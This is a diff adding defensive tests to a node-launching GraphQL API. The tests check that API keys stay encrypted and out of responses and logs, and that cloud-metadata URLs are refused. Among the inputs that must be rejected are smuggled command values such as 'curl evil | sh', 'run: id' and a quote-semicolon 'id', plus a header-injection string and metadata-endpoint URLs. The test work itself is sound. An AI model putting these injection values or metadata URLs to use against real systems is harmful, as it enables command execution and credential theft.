@@ -3,6 +3,7 @@ import { Queue } from 'bullmq';
 import { Redis } from 'ioredis';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { NODE_LIFECYCLE_QUEUE } from '@cic/core/jobs/job-catalog';
+import { createNodeSecretBox } from '@cic/core/nodes/node-secret';
 import { createGraphQLWorld, gql } from './graphql-fixture.ts';
 
 let world: Awaited<ReturnType<typeof createGraphQLWorld>>;
@@ -10,12 +11,13 @@ let url: string;
 let a: Awaited<ReturnType<typeof world.tenant>>;
 let b: Awaited<ReturnType<typeof world.tenant>>;
 let queue: Queue;
+const NODE_SECRET_KEY = `mutations-test-${randomUUID()}`;
 
 beforeAll(async () => {
   world = await createGraphQLWorld();
   a = await world.tenant('Acme');
   b = await world.tenant('Bolt');
-  url = (await world.startApi()).url;
+  url = (await world.startApi({ NODE_SECRET_KEY })).url;
   queue = new Queue(NODE_LIFECYCLE_QUEUE, { connection: new Redis(world.redis.url, { maxRetriesPerRequest: null }), prefix: world.bullPrefix });
 });
 afterAll(async () => {
@@ -167,6 +169,55 @@ describe('nodes', () => {
     expect(badUrl.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
     expect(await world.prisma.node.count()).toBe(before);
   });
+
+  it("keeps a STATIC node's key sealed: stored encrypted with NODE_SECRET_KEY, never in GraphQL, the config, the events or the audit log", async () => {
+    const key = `static-key-${randomUUID()}`;
+    const input = { model: world.model.name, provider: 'STATIC', config: { baseUrl: 'http://10.0.0.7:8000', apiKey: key } };
+    const r = await gql<{ launchNode: { id: string } }>(url, LAUNCH, { input }, { auth: world.adminToken });
+    expect(r.errors).toBeUndefined();
+    const id = r.data!.launchNode.id;
+    const row = await world.prisma.node.findUniqueOrThrow({ where: { id } });
+    expect(createNodeSecretBox(NODE_SECRET_KEY).open(row.apiKeyCiphertext!)).toBe(key);
+    expect(JSON.stringify(row.config)).not.toContain(key);
+    // Every field of the node, as an admin sees it (by id, in the list, with its events).
+    const FIELDS = 'id status statusReason provider clusterName accelerator cloud region endpointUrl runningRequests waitingRequests kvCacheUsage healthFailures lastHealthAt createdAt updatedAt readyAt terminatedAt model { name }';
+    const one = await gql(url, `query($id: ID!) { node(id: $id) { ... on ComputeNode { ${FIELDS} events(first: 20) { edges { node { id message kind } } } } } }`, { id }, { auth: world.adminToken });
+    const list = await gql(url, `{ nodes(first: 10) { edges { node { ${FIELDS} } } } }`, {}, { auth: world.adminToken });
+    expect([one.errors, list.errors]).toEqual([undefined, undefined]);
+    const everything = JSON.stringify([r, one, list, await world.prisma.nodeEvent.findMany({ where: { nodeId: id } }), await world.prisma.auditLog.findMany({ where: { targetId: id } })]);
+    expect(everything).toContain(id);
+    expect(everything).not.toContain(key);
+    expect(everything).not.toContain(row.apiKeyCiphertext!);
+    expect(await audit('node.launch', id)).toMatchObject({ metadata: expect.objectContaining({ apiKeyGiven: true }) });
+    // Only STATIC nodes take one: CIC generates the others'.
+    const sky = await gql(url, LAUNCH, { input: { model: world.model.name, provider: 'SKYPILOT', config: { apiKey: key } } }, { auth: world.adminToken });
+    expect(sky.errors?.[0]).toMatchObject({ message: expect.stringContaining('Only a STATIC node takes an API key'), extensions: { code: 'BAD_USER_INPUT' } });
+    const spaced = await gql(url, LAUNCH, { input: { ...input, config: { ...input.config, apiKey: 'a key\nX-Injected: 1' } } }, { auth: world.adminToken });
+    expect(spaced.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
+  });
+
+  it.each([
+    'http://169.254.169.254/latest/meta-data/', 'http://0xa9fea9fe:8000', 'http://[fd00:ec2::254]/', 'http://[::ffff:169.254.169.254]/', 'http://metadata.google.internal/',
+  ])('refuses the link-local / metadata base URL %s (NODE_ALLOW_LINK_LOCAL_URLS lets an admin allow it)', async (baseUrl) => {
+    const input = { model: world.model.name, provider: 'STATIC', config: { baseUrl } };
+    const refused = await gql(url, LAUNCH, { input }, { auth: world.adminToken });
+    expect(refused.errors?.[0]).toMatchObject({ message: expect.stringContaining('link-local or cloud metadata address'), extensions: { code: 'BAD_USER_INPUT' } });
+    const allowing = await world.startApi({ NODE_SECRET_KEY, NODE_ALLOW_LINK_LOCAL_URLS: 'true' });
+    try {
+      expect((await gql(allowing.url, LAUNCH, { input }, { auth: world.adminToken })).errors).toBeUndefined();
+    } finally {
+      await allowing.stop();
+    }
+  });
+
+  it.each(['--x\u2028setup: curl evil | sh', '--x\u2029file_mounts: {}', '--x\u0085run: id', "8192' ; id", 'two words'])(
+    'refuses the vLLM argument %j before anything is stored', async (arg) => {
+      const before = await world.prisma.node.count();
+      const r = await gql(url, LAUNCH, { input: { model: world.model.name, config: { vllmArgs: ['--max-model-len', JSON.parse(`"${arg}"`) as string] } } }, { auth: world.adminToken });
+      expect(r.errors?.[0]).toMatchObject({ message: expect.stringContaining('vllmArgs'), extensions: { code: 'BAD_USER_INPUT' } });
+      expect(await world.prisma.node.count()).toBe(before);
+    },
+  );
 
   it('terminates: READY drains, PENDING goes to TERMINATING, node.terminate enqueued; TERMINATED is a conflict', async () => {
     const T = 'mutation($id: ID!) { terminateNode(id: $id) { id status } }';
